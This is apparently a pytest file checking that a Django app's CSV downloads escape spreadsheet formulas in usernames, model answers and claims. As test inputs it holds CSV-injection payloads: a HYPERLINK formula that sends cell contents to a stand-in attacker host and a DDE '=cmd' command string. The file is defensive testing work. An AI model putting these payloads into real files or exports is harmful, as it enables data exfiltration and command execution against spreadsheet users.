"""Every CSV the application writes goes through one writer that neutralises spreadsheet formulas
(issue 45): a text cell beginning with =, +, -, @, a tab or a carriage return gets a leading
apostrophe; numbers stay numbers. Each download is fed hostile values through the code that
makes its rows: usernames (agreement, time per item), a model's answer and its name (an
evaluation's outcomes and the comparison), a claim (a release's CSV)."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.test import Client

from annotation.downloads import FORMULA_START, csv_text, neutral
from evaluation.models import EvaluationRun
from jobs import dispatch
from jobs.models import Job
from tests.annotation.review_factories import annotate, crew, written_pair
from tests.evaluation.builders import write_small_release
from tests.evaluation.standin_openai import StandInOpenAI
from tests.factories import AdminFactory
from validation.models import ReleaseExport, SplitVersion

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
ATTACK = '=HYPERLINK("http://attacker.invalid/?x="&A1,"entailed")'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), (cell, row)


def test_a_cell_that_would_start_a_formula_is_written_as_text():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutral(f"{start}1+1") == f"'{start}1+1"
    assert neutral("a=b") == "a=b" and neutral(-1.5) == -1.5 and neutral(3) == 3
    written = cells(csv_text(["name", "n"], [["@SUM(A1:A9)", -2], {"name": "ok", "n": 1}]))
    assert written == [["name", "n"], ["'@SUM(A1:A9)", "-2"], ["ok", "1"]]


def test_no_module_writes_csv_but_the_one_writer():
    found = []
    for app in ("annotation", "validation", "evaluation", "papers", "guidelines", "workspace"):
        for path in (ROOT / app).rglob("*.py"):
            text = path.read_text()
            if path.name != "downloads.py" and re.search(r"csv\.(writer|DictWriter)\(", text):
                found.append(str(path.relative_to(ROOT)))
    assert found == []


def test_usernames_in_the_agreement_and_time_downloads_are_text():
    c = crew("=cmd|' /C calc'!A0", "@evil", "+plus")
    writer = c["=cmd|' /C calc'!A0"]
    written_pair(writer, c["boss"], seed=1)
    annotate(c["@evil"])
    annotate(c["+plus"], flip=True)
    client = Client()
    client.force_login(c["boss"])
    agreement = cells(client.get("/agreement.csv").content.decode())
    pairs = [row for row in agreement if row[0] == "annotator_pair"]
    assert pairs and all(row[1].startswith("'") for row in pairs), pairs
    no_formula(agreement)
    time = client.get("/manage/people/time.csv")
    assert time.status_code == 200, time
    rows = cells(time.content.decode())
    experts = {row[rows[0].index("expert")] for row in rows[1:]}
    assert "'=cmd|' /C calc'!A0" in experts and "'@evil" in experts, experts
    no_formula(rows)


def test_a_models_answer_and_name_in_the_evaluation_downloads_are_text(
    client, tmp_path, settings, monkeypatch
):
    server = StandInOpenAI(answer=lambda *args, **kwargs: ATTACK, api_key="sk-csv").start()
    try:
        settings.EVALUATION_ENDPOINTS = {
            "standin": {"url": server.url, "key_variable": "STANDIN_KEY"}
        }
        settings.EVALUATION_CACHE_DIR = tmp_path / "cache"
        settings.REDIS_URL = ""
        monkeypatch.setenv("STANDIN_KEY", "sk-csv")
        out = write_small_release(tmp_path, hide_test_labels=True, seed=2)
        split = SplitVersion.objects.create(name="v1", seed=1, validation_size=8, test_size=8)
        job = Job.objects.create(kind="export_release", function="x", status=Job.Status.FINISHED)
        export = ReleaseExport.objects.create(
            split=split, out=str(out), hide_test_labels=True, job=job
        )
        client.force_login(AdminFactory())
        fields = {"export": export.pk, "part": "validation", "endpoint": "standin"}
        client.post("/manage/evaluation/", {**fields, "model": "-model"})
        run = EvaluationRun.objects.get()
        dispatch.run_job(run.job_id)
        run.refresh_from_db()
        assert run.job.status == Job.Status.FINISHED, run.job.error
        assert run.outcomes.filter(response=ATTACK).count() == 8  # stored as it came
    finally:
        server.stop()
    outcomes = cells(client.get(f"/manage/evaluation/runs/{run.pk}/outcomes.csv").content.decode())
    answers = {row[outcomes[0].index("response")] for row in outcomes[1:]}
    assert answers == {"'" + ATTACK}
    no_formula(outcomes)
    compared = client.get(f"/manage/evaluation/compare.csv?run={run.pk}")
    assert compared.status_code == 200, compared
    rows = cells(compared.content.decode())
    assert {row[rows[0].index("model")] for row in rows[1:]} == {"'-model"}
    no_formula(rows)
    stored = json.loads(client.get(f"/manage/evaluation/runs/{run.pk}/outcomes.json").content)
    assert stored["outcomes"][0]["response"] == ATTACK  # the JSON holds it as written


def test_a_claim_in_a_releases_csv_is_text():
    import dataclasses

    from tests.evaluation.builders import small_release
    from validation.release.formats import csv_text as release_csv

    release = small_release()
    claim = release.splits["validation"][0]
    text = "@SUM(1+1) is what Table 2 shows"
    hostile = dataclasses.replace(claim, origin_statement=text, perturbed_statement=text)
    papers = {paper.paperid: paper for paper in release.papers}
    rows = cells(release_csv([hostile], papers))
    assert rows[1][rows[0].index("claim")] == "'" + text
    no_formula(rows)
